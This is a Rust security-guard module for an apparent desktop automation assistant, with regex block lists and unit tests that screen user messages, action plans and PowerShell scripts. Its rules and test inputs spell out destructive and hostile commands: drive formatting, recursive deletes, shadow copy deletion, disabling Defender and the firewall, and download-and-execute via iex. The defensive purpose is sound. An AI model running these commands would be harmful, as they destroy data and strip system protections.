//! # Security Guard
//!
//! Three independent textual policy layers sharing one verdict shape:
//!
//! 1. [`check_message`]: raw user text, before anything is interpreted.
//! 2. [`check_plan`]: an interpreted plan, before queueing and again before execution.
//! 3. [`check_script`]: the compiled script text, immediately before it runs.
//!
//! Every check is a pure predicate over its input. Passing one layer never
//! exempts a plan from the next.

use regex::Regex;
use std::sync::LazyLock;

use crate::domain::types::{ActionPlan, ActionStep, StepKind};

/// Outcome of a guard check. `reason` is shown to the user verbatim.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SecurityVerdict {
    pub blocked: bool,
    pub reason: Option<String>,
}

impl SecurityVerdict {
    pub fn allow() -> Self {
        Self {
            blocked: false,
            reason: None,
        }
    }

    pub fn block(reason: impl Into<String>) -> Self {
        Self {
            blocked: true,
            reason: Some(reason.into()),
        }
    }

    pub fn reason(&self) -> &str {
        self.reason.as_deref().unwrap_or("")
    }
}

/// A dangerous pattern and the reason reported when it matches.
#[derive(Debug)]
pub struct GuardRule {
    pub pattern: Regex,
    pub reason: &'static str,
}

/// Plan intents that are always refused.
pub const BLOCKED_INTENTS: &[&str] = &[
    "delete_system",
    "format_drive",
    "wipe_disk",
    "disable_security",
    "escalate_privilege",
    "modify_registry",
    "kill_system_process",
];

const PROTECTED_PATHS: &[&str] = &[
    r"(?i)\bsystem32\b",
    r"(?i)\bsyswow64\b",
    r"(?i)\\windows\\",
    r"(?i)c:[/\\]windows\b",
    r"(?i)c:[/\\]program\s*files\b",
    r"(?i)c:[/\\]programdata\b",
    r"(?i)\bhklm\\",
    r"(?i)\bhkcc\\",
    r"(?i)\bhkcr\\",
    r"(?i)registry::hklm",
    r"(?i)\bsam\b.*\bregistry\b",
    r"(?i)\bsecurity\b.*\bregistry\b",
];

const MESSAGE_RULES: &[(&str, &str)] = &[
    (r"(?i)\b(?:rm|del|rmdir|rd)\s+[/-][sfqr]", "Recursive delete command detected"),
    (
        r"(?i)del(?:ete)?\s+(?:all\s+)?(?:files?|everything)\s+(?:on\s+)?[a-z]:",
        "Mass file deletion detected",
    ),
    (r"(?i)\bformat\s+[a-z]:", "Drive format command detected"),
    (r"(?i)\bdiskpart\b", "Diskpart utility blocked"),
    (r"(?i)\bsystem32\b", "System32 path is protected"),
    (r"(?i)delete\s+(?:system32|windows|win32)", "Critical Windows directory is protected"),
    (r"(?i)reg\s+(?:delete|add)\s+hklm", "System registry modification blocked"),
    (r"(?i)regedit\s+", "Registry editor command blocked"),
    (
        r"(?i)(?:disable|turn\s+off)\s+(?:windows\s+defender|antivirus|firewall)",
        "Disabling security software is blocked",
    ),
    (r"(?i)netsh\s+advfirewall\s+set\s+\w+\s+state\s+off", "Firewall disable command blocked"),
    (r"(?i)set-mppreference\s+.*disablerealtimemonitoring", "Defender disable command blocked"),
    (r"(?i)net\s+(?:user|localgroup)\s+administrator", "Administrator account modification blocked"),
    (r"(?i)net\s+user\s+\S+\s+/add", "Adding system users is blocked"),
    (r"(?i)iex\s*\(", "Invoke-Expression execution blocked"),
    (r"(?i)invoke-expression", "Invoke-Expression execution blocked"),
    (r"(?i)downloadstring\s*\(", "Remote script download blocked"),
    (r"(?i)downloadfile\s*\(", "Remote file download to disk blocked"),
    (r"(?i)\bwebclient\b.*\bdownload", "Remote download blocked"),
    (r"(?i)\[convert\]::frombase64string", "Base64 payload execution blocked"),
    (r"(?i)-enc(?:oded)?(?:command)?\s+[a-z0-9+/=]{20,}", "Encoded PowerShell command blocked"),
    (r"(?i)\bcipher\s+/w", "Secure wipe command blocked"),
    (r"(?i)\b(?:bootrec|bcdedit|bcdboot)\b", "Boot configuration modification blocked"),
    (r"(?i)vssadmin\b", "Volume shadow copies modification blocked"),
    (r"(?i)wmic\s+shadowcopy\s+delete", "Shadow copy deletion blocked"),
    (
        r"(?i)taskkill\s+.*/f\s+.*(?:winlogon|lsass|csrss|smss|wininit|services\.exe)",
        "Killing critical system process blocked",
    ),
];

const SCRIPT_RULES: &[(&str, &str)] = &[
    (r"(?i)remove-item\s+.*-recurse\s+.*-force", "Recursive forced deletion blocked"),
    (r"(?i)remove-item\s+-force\s+.*-recurse", "Recursive forced deletion blocked"),
    (r"(?i)\brd\s+/s\s+/q", "Recursive directory removal blocked"),
    (r"(?i)\brmdir\s+/s\s+/q", "Recursive directory removal blocked"),
    (r"(?i)\bdel\s+/[sqfr]", "Recursive delete flag blocked"),
    (r"(?i)c:[/\\](?:windows|system32|syswow64)\b", "Windows system path is protected"),
    (r"(?i)c:[/\\]program\s*files\b", "Program Files path is protected"),
    (r"(?i)remove-item\s+.*hklm", "System registry deletion blocked"),
    (r"(?i)set-itemproperty\s+.*hklm", "System registry write blocked"),
    (r"(?i)new-item\s+.*hklm", "System registry write blocked"),
    (r"(?i)\breg\s+(?:delete|add)\s+hklm", "Registry modification blocked"),
    (r"(?i)iex\s*\(", "Invoke-Expression blocked"),
    (r"(?i)invoke-expression", "Invoke-Expression blocked"),
    (r"(?i)\[convert\]::frombase64string", "Base64 decoded execution blocked"),
    (r"(?i)-enc(?:odedcommand)?\s+[a-z0-9+/=]{20,}", "Encoded PowerShell command blocked"),
    (r"(?i)downloadstring\s*\(", "Remote script execution blocked"),
    (r#"(?i)downloadfile\s*\(\s*['"]https?:"#, "Downloading files from internet blocked"),
    (r"(?i)invoke-webrequest.*\|.*iex", "Web download execution blocked"),
    (r"(?i)set-mppreference.*-disable", "Windows Defender modification blocked"),
    (r"(?i)netsh\s+advfirewall", "Firewall modification blocked"),
    (r"(?i)\bformat\s+[a-z]:", "Drive format blocked"),
    (r"(?i)\bdiskpart\b", "Diskpart blocked"),
    (
        r"(?i)stop-service\s+.*(?:windefend|mpsvc|wscsvc|bfe|mpssvc)",
        "Stopping security services blocked",
    ),
    (r"(?i)sc\s+(?:stop|config)\s+(?:windefend|mpssvc|wscsvc|bfe)", "Stopping security services blocked"),
    (r"(?i)\bbcdedit\b", "Boot configuration edit blocked"),
    (r"(?i)\bbootrec\b", "Boot record modification blocked"),
    (r"(?i)net\s+(?:user|localgroup)\s+administrator", "Admin escalation blocked"),
    (r"(?i)add-localgroupmember.*administrator", "Admin escalation blocked"),
];

struct RuleTables {
    protected: Vec<Regex>,
    message: Vec<GuardRule>,
    script: Vec<GuardRule>,
}

fn compile_rules(table: &[(&str, &'static str)]) -> Vec<GuardRule> {
    table
        .iter()
        .map(|(pattern, reason)| GuardRule {
            pattern: Regex::new(pattern).unwrap(),
            reason,
        })
        .collect()
}

static TABLES: LazyLock<RuleTables> = LazyLock::new(|| RuleTables {
    protected: PROTECTED_PATHS
        .iter()
        .map(|p| Regex::new(p).unwrap())
        .collect(),
    message: compile_rules(MESSAGE_RULES),
    script: compile_rules(SCRIPT_RULES),
});

fn first_rule<'a>(text: &str, rules: &'a [GuardRule]) -> Option<&'a GuardRule> {
    rules.iter().find(|r| r.pattern.is_match(text))
}

/// Returns the protected path fragment found in `text`, if any.
pub fn protected_path_in(text: &str) -> Option<String> {
    TABLES
        .protected
        .iter()
        .find_map(|p| p.find(text))
        .map(|m| m.as_str().trim().to_string())
}

/// Layer 1: screen raw user text before any interpretation.
pub fn check_message(message: &str) -> SecurityVerdict {
    if let Some(rule) = first_rule(message, &TABLES.message) {
        tracing::warn!("Message blocked ({}): {:.120}", rule.reason, message);
        return SecurityVerdict::block(rule.reason);
    }
    if let Some(path) = protected_path_in(message) {
        tracing::warn!("Message blocked (protected path {}): {:.120}", path, message);
        return SecurityVerdict::block(format!(
            "Message references a protected system path ({path})"
        ));
    }
    SecurityVerdict::allow()
}

/// Layer 2: validate an interpreted plan. Runs before queueing, after a
/// "modify" resolution and again inside the execution bridge.
pub fn check_plan(plan: &ActionPlan) -> SecurityVerdict {
    if BLOCKED_INTENTS.contains(&plan.intent.as_str()) {
        tracing::warn!("Plan {} blocked: intent {}", plan.id, plan.intent);
        return SecurityVerdict::block(format!("Dangerous action intent: {}", plan.intent));
    }

    if let Some(path) = protected_path_in(&plan.description) {
        tracing::warn!("Plan {} blocked: description references {}", plan.id, path);
        return SecurityVerdict::block(format!(
            "Action description references a protected system path ({path})"
        ));
    }

    check_steps(&plan.steps)
}

fn check_steps(steps: &[ActionStep]) -> SecurityVerdict {
    for step in steps {
        let verdict = check_step(step);
        if verdict.blocked {
            tracing::warn!("Step {} blocked: {}", step.type_name(), verdict.reason());
            return verdict;
        }
    }
    SecurityVerdict::allow()
}

fn check_step(step: &ActionStep) -> SecurityVerdict {
    match &step.kind {
        StepKind::TypeText { text } => {
            if let Some(path) = protected_path_in(text) {
                return SecurityVerdict::block(format!(
                    "Typed text references a protected system path ({path})"
                ));
            }
            if let Some(rule) = first_rule(text, &TABLES.message) {
                return SecurityVerdict::block(format!("Typed text is dangerous: {}", rule.reason));
            }
        }
        StepKind::RunScript { filename, args } => {
            let target = std::iter::once(filename).chain(args.iter());
            for value in target {
                if let Some(path) = protected_path_in(value) {
                    return SecurityVerdict::block(format!(
                        "Script path references a protected system path ({path})"
                    ));
                }
            }
        }
        StepKind::LaunchApp { app, path } => {
            let target = std::iter::once(app).chain(path.iter());
            for value in target {
                if let Some(found) = protected_path_in(value) {
                    return SecurityVerdict::block(format!(
                        "Launch path references a protected system path ({found})"
                    ));
                }
            }
        }
        StepKind::RepeatSequence { sub_steps, .. } => return check_steps(sub_steps),
        StepKind::Unrecognized => {
            tracing::warn!(
                "Unrecognized step type in plan ({}), flagging but not blocking",
                step.description
            );
        }
        _ => {}
    }
    SecurityVerdict::allow()
}

/// Layer 3: scan compiled script text right before it is executed.
pub fn check_script(script: &str) -> SecurityVerdict {
    if let Some(rule) = first_rule(script, &TABLES.script) {
        tracing::warn!("Script blocked: {}", rule.reason);
        return SecurityVerdict::block(rule.reason);
    }
    if let Some(path) = protected_path_in(script) {
        tracing::warn!("Script blocked: references {}", path);
        return SecurityVerdict::block(format!(
            "PowerShell script references a protected system path ({path})"
        ));
    }
    SecurityVerdict::allow()
}

/// Validates script content before it is saved to the workspace.
/// `.ps1` gets the full script check; other types get the message table.
pub fn check_script_content(content: &str, extension: &str) -> SecurityVerdict {
    if extension.trim_start_matches('.').eq_ignore_ascii_case("ps1") {
        return check_script(content);
    }
    if let Some(rule) = first_rule(content, &TABLES.message) {
        tracing::warn!("Script content blocked: {}", rule.reason);
        return SecurityVerdict::block(rule.reason);
    }
    if let Some(path) = protected_path_in(content) {
        tracing::warn!("Script content blocked: references {}", path);
        return SecurityVerdict::block(format!(
            "Script content references a protected system path ({path})"
        ));
    }
    SecurityVerdict::allow()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::types::{ActionPlan, ActionStep, StepKind, intent};

    fn plan_with(steps: Vec<ActionStep>) -> ActionPlan {
        ActionPlan::new("test", intent::TYPE_TEXT, "Test plan", steps)
    }

    #[test]
    fn test_rule_tables_compile() {
        assert_eq!(TABLES.protected.len(), PROTECTED_PATHS.len());
        assert_eq!(TABLES.message.len(), MESSAGE_RULES.len());
        assert_eq!(TABLES.script.len(), SCRIPT_RULES.len());
    }

    #[test]
    fn test_message_layer_blocks_destructive_text() {
        let cases = [
            ("rm -rf /", "Recursive delete command detected"),
            ("please format C: now", "Drive format command detected"),
            ("run diskpart", "Diskpart utility blocked"),
            ("reg delete HKLM\\Software\\Foo", "System registry modification blocked"),
            ("turn off windows defender", "Disabling security software is blocked"),
            ("iex (New-Object Net.WebClient)", "Invoke-Expression execution blocked"),
            ("vssadmin delete shadows /all", "Volume shadow copies modification blocked"),
            ("taskkill /im x /f /t lsass", "Killing critical system process blocked"),
        ];
        for (message, reason) in cases {
            let verdict = check_message(message);
            assert!(verdict.blocked, "expected block for {message}");
            assert_eq!(verdict.reason(), reason, "wrong reason for {message}");
        }
    }

    #[test]
    fn test_message_layer_allows_everyday_commands() {
        for message in [
            "mute",
            "open notepad and type hello",
            "set volume to 40",
            "shut down this pc",
            "search for windows tips",
            "mine forward unless you see lava",
        ] {
            assert!(!check_message(message).blocked, "unexpected block for {message}");
        }
    }

    #[test]
    fn test_message_layer_protected_path() {
        let verdict = check_message(r"open C:\ProgramData\secrets");
        assert!(verdict.blocked);
        assert!(verdict.reason().contains("protected system path"));
    }

    #[test]
    fn test_plan_blocks_intent() {
        let mut plan = plan_with(vec![]);
        plan.intent = "format_drive".to_string();
        let verdict = check_plan(&plan);
        assert_eq!(verdict.reason(), "Dangerous action intent: format_drive");
    }

    #[test]
    fn test_plan_blocks_typed_protected_path() {
        let plan = plan_with(vec![ActionStep::type_text(
            r"cd C:\Windows\System32",
            "Type a path",
        )]);
        let verdict = check_plan(&plan);
        assert!(verdict.blocked);
        assert!(verdict.reason().starts_with("Typed text references a protected system path"));
        assert!(verdict.reason().contains("System32"));
    }

    #[test]
    fn test_plan_blocks_typed_dangerous_command() {
        let plan = plan_with(vec![ActionStep::type_text("rd /s /q D:\\", "Type it")]);
        let verdict = check_plan(&plan);
        assert_eq!(
            verdict.reason(),
            "Typed text is dangerous: Recursive delete command detected"
        );
    }

    #[test]
    fn test_plan_blocks_description_and_targets() {
        let mut plan = plan_with(vec![]);
        plan.description = r"Open C:\Program Files\thing".to_string();
        assert!(check_plan(&plan).blocked);

        let plan = plan_with(vec![ActionStep::new(
            StepKind::LaunchApp {
                app: "tool".to_string(),
                path: Some(r"C:\Windows\tool.exe".to_string()),
            },
            "Launch",
        )]);
        assert!(check_plan(&plan).reason().starts_with("Launch path"));

        let plan = plan_with(vec![ActionStep::new(
            StepKind::RunScript {
                filename: "run.ps1".to_string(),
                args: vec![r"HKLM\Software".to_string()],
            },
            "Run",
        )]);
        assert!(check_plan(&plan).reason().starts_with("Script path"));
    }

    #[test]
    fn test_plan_inspects_nested_steps() {
        let plan = plan_with(vec![ActionStep::new(
            StepKind::RepeatSequence {
                sub_steps: vec![ActionStep::type_text("diskpart", "Type")],
                stop_conditions: vec![],
                max_iterations: 5,
            },
            "Repeat",
        )]);
        assert!(check_plan(&plan).blocked);
    }

    #[test]
    fn test_plan_flags_but_allows_unrecognized_steps() {
        let plan = plan_with(vec![ActionStep::new(StepKind::Unrecognized, "Future step")]);
        assert!(!check_plan(&plan).blocked);
    }

    #[test]
    fn test_script_layer() {
        assert!(check_script("Remove-Item C:\\temp -Recurse -Force").blocked);
        assert!(check_script("Stop-Service -Name WinDefend").blocked);
        assert!(check_script("$x = Invoke-WebRequest http://x | iex").blocked);
        let verdict = check_script("Set-Location 'D:\\data\\syswow64'");
        assert!(verdict.reason().starts_with("PowerShell script references"));
        assert!(!check_script("[KbdHelper]::Press(0x0D)\r\nStart-Sleep -Milliseconds 60").blocked);
    }

    #[test]
    fn test_script_content_by_extension() {
        assert!(check_script_content("Stop-Service WinDefend", ".ps1").blocked);
        // Not in the message table, so other types pass.
        assert!(!check_script_content("Stop-Service WinDefend", "py").blocked);
        assert!(check_script_content("import os; os.system('diskpart')", "py").blocked);
        let verdict = check_script_content("open('C:/ProgramData/x')", "py");
        assert!(verdict.reason().starts_with("Script content references"));
        assert!(!check_script_content("print('hello')", ".py").blocked);
    }
}
